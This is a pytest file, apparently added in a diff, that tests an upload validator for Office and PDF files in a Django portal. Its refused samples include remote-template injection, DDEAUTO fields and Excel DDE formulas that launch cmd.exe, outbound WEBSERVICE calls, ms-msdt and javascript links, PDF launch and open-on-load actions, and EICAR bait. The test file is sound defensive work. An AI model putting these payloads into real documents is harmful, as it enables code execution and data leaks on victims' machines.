@@ -1,0 +1,493 @@
+"""Files that look like an application's and do something when an officer opens them."""
+
+import io
+import random
+
+import openpyxl
+import pikepdf
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.base import ContentFile
+from pikepdf import Array, Dictionary, Name
+from PIL import Image
+
+from approvals import guides
+from huadu_portal.sandbox.jobs.bait import EICAR
+from huadu_portal.sandbox.jobs.parts import OLE
+from projects import files
+from tests.conftest import PDF
+from tests.projects.conftest import RELATIONSHIPS, office_file, relationships
+from tests.projects.test_files import pdf_with, picture
+
+LIMIT = 10 * 1024 * 1024
+# So many that the string lies across two pieces; not to be packed into nothing.
+FILLING = random.Random(1).randbytes(256 * 1024 - 100)
+EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 100
+WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+MS = "http://schemas.microsoft.com/office/2006/relationships"
+EXCEL_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+
+
+def check(content, name):
+    return files.check(ContentFile(content, name=name), limit=LIMIT)
+
+
+def refused(content, name):
+    """The sentence that the sender reads."""
+    with pytest.raises(ValidationError) as refusal:
+        check(content, name)
+    return " ".join(refusal.value.messages)
+
+
+def template(**said):
+    """A relationship to a template elsewhere; `said` spells its attributes anew."""
+    plain = {
+        "Type": f"{RELATIONSHIPS}/attachedTemplate",
+        "Target": "http://192.0.2.1/x.dotm",
+        "TargetMode": "External",
+    }
+    return "".join(f' {name}="{value}"' for name, value in (plain | said).items())
+
+
+def rels(relationship):
+    return f"<Relationships><Relationship Id='r'{relationship}/></Relationships>"
+
+
+def in_characters(text):
+    return "".join(f"&#{ord(sign)};" for sign in text)
+
+
+REMOTE_TEMPLATES = {
+    "plain": rels(template()),
+    "utf-16": '<?xml version="1.0" encoding="UTF-16"?>' + rels(template()),
+    "prefix": '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/'
+    f'relationships"><p:Relationship Id="r"{template()}/></p:Relationships>',
+    "characters": rels(template(TargetMode=in_characters("External"))),
+    "characters in the type": rels(
+        template(Type=f"{RELATIONSHIPS}/{in_characters('attachedTemplate')}")
+    ),
+    "single quotes": rels(template()).replace('"', "'"),
+    "spaces": rels(
+        template(TargetMode="  External\n", Type=f" {RELATIONSHIPS}/attachedTemplate ")
+    ),
+    "lines": rels(template().replace("=", "\n=\n")),
+    "lower case": rels(template(TargetMode="external")),
+    "case of the type": rels(template(Type=f"{RELATIONSHIPS}/ATTACHEDTEMPLATE")),
+    "no mode": rels(template(TargetMode="Internal")),
+    "strict": rels(
+        template(
+            Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"
+        )
+    ),
+    "of an issuer unknown": rels(template(Type="http://example.com/hyperlink")),
+}
+
+
+class TestDrawnIn:
+    @pytest.mark.parametrize("spelling", REMOTE_TEMPLATES)
+    def test_a_template_from_elsewhere_however_it_is_spelled(self, spelling):
+        text = REMOTE_TEMPLATES[spelling]
+        content = text.encode("utf-16" if spelling == "utf-16" else "utf-8")
+
+        sentence = refused(office_file({"word/_rels/settings.xml.rels": content}), "x.docx")
+
+        assert sentence.endswith(str(files.SENTENCES["fetches"]))
+
+    @pytest.mark.parametrize("name", ["word/_RELS/settings.XML.RELS", "word/links.xml"])
+    def test_and_wherever_it_stands(self, name):
+        assert refused(office_file({name: REMOTE_TEMPLATES["plain"]}), "x.docx")
+
+    @pytest.mark.parametrize(
+        "kind", ["aFChunk", "oleObject", "frame", "subDocument", "externalLinkPath", "image"]
+    )
+    def test_other_parts_from_elsewhere(self, kind):
+        link = rels(template(Type=f"{RELATIONSHIPS}/{kind}"))
+
+        assert refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")
+
+    @pytest.mark.parametrize(
+        "target", ["\\\\192.0.2.1\\x\\y.png", "//192.0.2.1/y.png", "file:///C:/y.png"]
+    )
+    def test_a_picture_of_a_share(self, target):
+        link = rels(
+            template(Type=f"{RELATIONSHIPS}/image", Target=target, TargetMode="Internal")
+        )
+
+        assert refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")
+
+    def test_a_chunk_in_another_format(self):
+        text = f'<w:document {WORD}><w:body><w:altChunk r="r1"/></w:body></w:document>'
+
+        assert refused(office_file(text=text), "x.docx")
+        link = relationships(f'Type="{RELATIONSHIPS}/aFChunk"')
+        assert refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")
+
+    def test_a_picture_of_vml(self):
+        vml = '<xml xmlns:v="urn:v"><v:imagedata src="http://192.0.2.1/x.png"/></xml>'
+
+        assert refused(office_file({"word/drawing1.vml": vml}), "x.docx")
+
+    @pytest.mark.parametrize("kind", ["externalLink", "connections", "queryTable"])
+    def test_a_table_that_asks_elsewhere(self, kind):
+        name = f"xl/{kind}1.xml"
+        content = office_file(
+            {name: "<x/>"},
+            main="xl/workbook.xml",
+            types={name: f"{EXCEL_TYPE}.{kind}+xml"},
+        )
+
+        assert refused(content, "x.xlsx")
+
+
+class TestHeldInside:
+    def test_an_ole_object(self):
+        content = office_file(
+            {"word/embeddings/oleObject1.bin": OLE + b"\0" * 504 + EXE},
+            types={
+                "word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-"
+                "officedocument.oleObject"
+            },
+        )
+
+        assert refused(content, "x.docx").endswith(str(files.SENTENCES["objects"]))
+
+    @pytest.mark.parametrize(
+        "said", ["image/png", "image/x-emf", f"{EXCEL_TYPE}.printerSettings"]
+    )
+    @pytest.mark.parametrize("bytes_", [EXE, OLE, b"PK\x03\x04", b"#!/bin/sh", b"<html>", PDF])
+    def test_something_else_that_calls_itself_a_picture(self, bytes_, said):
+        content = office_file({"word/media/x.png": bytes_}, types={"word/media/x.png": said})
+
+        assert refused(content, "x.docx")
+
+    def test_a_picture_of_another_kind_than_it_says(self):
+        assert refused(office_file({"word/media/x.png": picture("JPEG")}), "x.docx")
+
+    @pytest.mark.parametrize(
+        "said",
+        [
+            "application/vnd.ms-office.vbaProject",
+            "application/octet-stream",
+            "application/vnd.openxmlformats-officedocument.obfuscatedFont",
+            "image/png",
+        ],
+    )
+    def test_a_renamed_vba_project(self, said):
+        name = "word/holiday.bin"
+        content = office_file({name: OLE + b"\0" * 504}, types={name: said})
+
+        assert refused(content, "x.docx")
+
+    @pytest.mark.parametrize(
+        "kind", ["vbaProject", "wordVbaData", "keyMapCustomizations", "activeXControlBinary"]
+    )
+    def test_a_relationship_to_programs(self, kind):
+        link = relationships(f'Type="{MS}/{kind}"')
+
+        sentence = refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")
+
+        assert sentence.endswith(str(files.SENTENCES["macros"]))
+
+    def test_a_part_without_a_type(self):
+        assert refused(office_file({"word/x.dat": b"x"}), "x.docx")
+
+    def test_a_file_that_calls_itself_two_kinds(self):
+        more = {"word/other.xml": f"{EXCEL_TYPE}.sheet.main+xml"}
+
+        assert refused(office_file({"word/other.xml": "<x/>"}, types=more), "x.docx")
+
+    def test_a_hostile_table_behind_a_chart(self):
+        bad = office_file({"xl/media/x.png": EXE}, main="xl/workbook.xml")
+
+        assert refused(office_file({"word/embeddings/x.xlsx": bad}), "x.docx")
+
+    def test_a_table_within_a_table_behind_a_chart(self):
+        inner = office_file(main="xl/workbook.xml")
+        outer = office_file({"xl/embeddings/x.xlsx": inner}, main="xl/workbook.xml")
+
+        assert refused(office_file({"word/embeddings/x.xlsx": outer}), "x.docx")
+
+
+def field(*runs, nested=""):
+    spread = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    return (
+        f'<w:document {WORD}><w:p><w:fldChar w:fldCharType="begin"/>{nested}{spread}'
+        '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t>'
+        '<w:fldChar w:fldCharType="end"/></w:p></w:document>'
+    )
+
+
+QUOTE = field("QUOTE 68 68 69").partition("<w:p>")[2].partition("</w:p>")[0]
+
+
+class TestFields:
+    @pytest.mark.parametrize(
+        "text",
+        [
+            field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
+            field("DDE", "AUTO c:\\\\cmd.exe"),
+            field(" d", "d", "e", " x"),
+            field("DD&#69; x"),
+            field("D\u200bDE x"),
+            field(" c:\\\\cmd.exe", nested=QUOTE),
+            field('LINK Excel.Sheet.8 "http://192.0.2.1/x.xls"'),
+            field('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\x"'),
+            field('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\x.png"'),
+            f'<w:document {WORD}><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:document>',
+            f"<w:document {WORD}><w:instrText>DDE x</w:instrText></w:document>",
+            field("DDE x").replace("instrText", "delInstrText"),
+            field("DDE x").replace("w:", "z:").replace("xmlns:z", "xmlns:z"),
+        ],
+    )
+    def test_that_start_a_program_or_read_a_file(self, text):
+        assert refused(office_file(text=text), "x.docx")
+
+    def test_in_a_header_too(self):
+        assert refused(office_file({"word/header1.xml": field("DDE x")}), "x.docx")
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            field("PAGE"),
+            field(' TOC \\o "1-3" \\h '),
+            field('HYPERLINK "http://www.huadu.gov.cn/"'),
+            field("= ", "1 + 2"),
+            field('INCLUDEPICTURE "https://mmbiz.qpic.cn/x.jpg" \\* MERGEFORMATINET'),
+            field("REF ddeauto"),
+            field('IF 1 = 2 "DDEAUTO" "x"'),
+        ],
+    )
+    def test_of_other_kinds_are_taken(self, text):
+        assert check(office_file(text=text), "x.docx")
+
+
+def sheet(formula):
+    return office_file(
+        {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"},
+        main="xl/workbook.xml",
+    )
+
+
+class TestFormulas:
+    @pytest.mark.parametrize(
+        "formula",
+        [
+            "cmd|'/C calc'!A0",
+            "cmd |'/C calc' !A0",
+            "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
+            "1+cmd|x!A0",
+            '_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)',
+            'RTD("prog",,"x")',
+            '_xlfn.IMAGE("http://192.0.2.1/x")',
+        ],
+    )
+    def test_that_call_out_of_the_table(self, formula):
+        assert refused(sheet(formula), "x.xlsx")
+
+    @pytest.mark.parametrize(
+        "formula",
+        [
+            "SUM(A1:A9)*'投资 表'!B2",
+            'IF(A1="a|b!","cmd|x!y",2)',
+            'HYPERLINK("http://www.huadu.gov.cn/","x")',
+            "RECALL(A1)",
+        ],
+    )
+    def test_of_other_kinds_are_taken(self, formula):
+        assert check(sheet(formula), "x.xlsx")
+
+    def test_a_link_by_dde(self):
+        link = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
+
+        assert refused(office_file({"xl/e.xml": link}, main="xl/workbook.xml"), "x.xlsx")
+
+
+class TestLinks:
+    def docx(self, target):
+        link = rels(template(Type=f"{RELATIONSHIPS}/hyperlink", Target=target))
+        return office_file({"word/_rels/document.xml.rels": link})
+
+    @pytest.mark.parametrize(
+        "target",
+        ["http://www.huadu.gov.cn/", "mailto:a@b.cn", "附件1.docx", "#_Toc1", "HTTPS://x"],
+    )
+    def test_to_pages_are_taken(self, target):
+        assert check(self.docx(target), "x.docx")
+
+    @pytest.mark.parametrize(
+        "target",
+        [
+            "javascript:alert(1)",
+            "java&#10;script:alert(1)",
+            "file:///C:/Windows/System32/calc.exe",
+            "\\\\192.0.2.1\\x.exe",
+            "ms-msdt:/id",
+            "search-ms:query=x",
+        ],
+    )
+    def test_to_programs_are_not(self, target):
+        assert refused(self.docx(target), "x.docx")
+
+
+class TestPdf:
+    def refused(self, change, name="x.pdf"):
+        return refused(pdf_with(change), name)
+
+    def link(self, pdf, **action):
+        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(**action))
+        pdf.pages[0].obj.Annots = Array([note])
+
+    @pytest.mark.parametrize("kind", ["GoToR", "Launch", "Thread", "SubmitForm", "Hide", "New"])
+    def test_a_click_that_does_more_than_lead_to_a_page(self, kind):
+        assert self.refused(lambda pdf: self.link(pdf, S=Name(f"/{kind}"), F="x.pdf"))
+
+    def test_an_address_fetched_on_opening(self):
+        uri = Dictionary(S=Name.URI, URI="http://192.0.2.1/")
+
+        assert self.refused(lambda pdf: setattr(pdf.Root, "OpenAction", uri))
+        assert self.refused(lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=uri)))
+
+    def test_one_that_follows_a_harmless_one(self):
+        uri = Dictionary(S=Name.URI, URI="http://192.0.2.1/")
+        for following in (uri, Array([uri])):
+            first = Dictionary(S=Name.GoTo, D=Array([0]), Next=following)
+            assert self.refused(lambda pdf, first=first: setattr(pdf.Root, "OpenAction", first))
+
+    def test_actions_without_an_end(self):
+        def change(pdf):
+            first = pdf.make_indirect(Dictionary(S=Name.GoTo))
+            first.Next = first
+            pdf.Root.OpenAction = first
+
+        assert self.refused(change)
+
+    @pytest.mark.parametrize(
+        "uri",
+        ["javascript:alert(1)", "java\nscript:x", " JavaScript:x", "file:///C:/x", "data:x"],
+    )
+    def test_an_address_that_is_no_page(self, uri):
+        assert self.refused(lambda pdf: self.link(pdf, S=Name.URI, URI=uri))
+
+    @pytest.mark.parametrize(
+        "uri", ["https://www.huadu.gov.cn/", "www.huadu.gov.cn", "mailto:a@b"]
+    )
+    def test_a_link_to_a_page_is_taken(self, uri):
+        assert check(pdf_with(lambda pdf: self.link(pdf, S=Name.URI, URI=uri)), "x.pdf")
+
+    def test_a_beginning_on_another_page_is_taken(self):
+        def change(pdf):
+            pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
+
+        assert check(pdf_with(change), "x.pdf")
+
+    def test_a_page_of_another_file(self):
+        def change(pdf):
+            form = pikepdf.Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form)
+            form.Ref = Dictionary(F="\\\\192.0.2.1\\x.pdf", Page=0)
+            pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))
+
+        assert self.refused(change)
+
+    def test_a_stream_that_lies_in_another_file(self):
+        def change(pdf):
+            held = pikepdf.Stream(pdf, b"")
+            held.F = "http://192.0.2.1/x"
+            pdf.pages[0].obj.Contents = held
+
+        assert self.refused(change)
+
+    @pytest.mark.parametrize(
+        "kind", ["Screen", "Movie", "Sound", "RichMedia", "FileAttachment"]
+    )
+    def test_a_note_that_plays_something(self, kind):
+        def change(pdf):
+            pdf.pages[0].obj.Annots = Array([Dictionary(Subtype=Name(f"/{kind}"))])
+
+        assert self.refused(change)
+
+    @pytest.mark.parametrize("kept", [0.5, 0.9, 0.98])
+    def test_one_cut_off_on_its_way(self, kept):
+        whole = pdf_with(lambda pdf: [pdf.add_blank_page() for _ in range(20)])
+
+        cut = whole[: int(len(whole) * kept)]
+        assert refused(cut, "x.pdf").endswith(str(files.SENTENCES["truncated"]))
+
+    @pytest.mark.parametrize("behind", [b"\r\n", b"\0" * 5000, b"\n\n% x\n"])
+    def test_what_some_programs_leave_behind_its_end_is_taken(self, behind):
+        assert check(PDF + behind, "x.pdf")
+
+
+class TestBait:
+    @pytest.mark.parametrize(
+        ("content", "name"),
+        [
+            (PDF.replace(b"\n", b"\n%" + EICAR + b"\n", 1), "x.pdf"),
+            (office_file({"word/x.xml": b"<a>" + EICAR + b"</a>"}), "x.docx"),
+            (office_file({"word/x.png": picture() + EICAR}), "x.docx"),
+            (office_file({"word/x.png": picture() + FILLING + EICAR}), "x.docx"),
+            (picture() + EICAR, "x.png"),
+            (picture("JPEG") + EICAR, "x.jpg"),
+        ],
+    )
+    def test_is_found_wherever_it_lies(self, content, name):
+        assert refused(content, name).endswith(str(files.SENTENCES["virus"]))
+
+
+def workbook():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["项目", "投资（万元）"])
+    sheet.append(["锦华", -1.5])
+    sheet["C1"] = "=SUM(B2:B9)"
+    sheet["D1"].hyperlink = "http://www.huadu.gov.cn/"
+    sheet["E1"].comment = openpyxl.comments.Comment("注", "甲")
+    chart = openpyxl.chart.BarChart()
+    chart.add_data(openpyxl.chart.Reference(sheet, min_col=2, min_row=1, max_row=2))
+    sheet.add_chart(chart, "F1")
+    image = io.BytesIO()
+    Image.new("RGB", (4, 3)).save(image, "PNG")
+    sheet.add_image(openpyxl.drawing.image.Image(image), "A9")
+    content = io.BytesIO()
+    book.save(content)
+    return content.getvalue()
+
+
+class TestOrdinaryFilesAreTaken:
+    def test_a_workbook_with_a_chart_a_picture_and_a_comment(self):
+        assert check(workbook(), "测算.xlsx")
+
+    def test_a_large_table_is_read_in_time(self):
+        book = openpyxl.Workbook(write_only=True)
+        sheet = book.create_sheet()
+        for row in range(20_000):
+            sheet.append([row, "锦华食品总部项目", row * 1.5, "=A1+1", "备注"] * 2)
+        content = io.BytesIO()
+        book.save(content)
+
+        assert check(content.getvalue(), "明细.xlsx")
+
+    def test_a_text_with_pictures_and_a_chart(self):
+        content = office_file(
+            {
+                "word/media/image1.png": picture(),
+                "word/media/image2.jpeg": picture("JPEG"),
+                "word/media/image3.emf": b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 60,
+                "word/charts/chart1.xml": "<c/>",
+                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook(),
+                "word/_rels/document.xml.rels": relationships(
+                    *(
+                        f'Type="{RELATIONSHIPS}/{kind}"'
+                        for kind in ("image", "chart", "styles", "header", "numbering")
+                    )
+                ),
+                "docProps/core.xml": "<coreProperties/>",
+                "word/media/": b"",
+            }
+        )
+
+        assert check(content, "说明.docx")
+
+    def test_our_own_papers(self):
+        form = next(iter(guides.samples().values()))
+
+        assert check(form.pdf(), "样表.pdf")
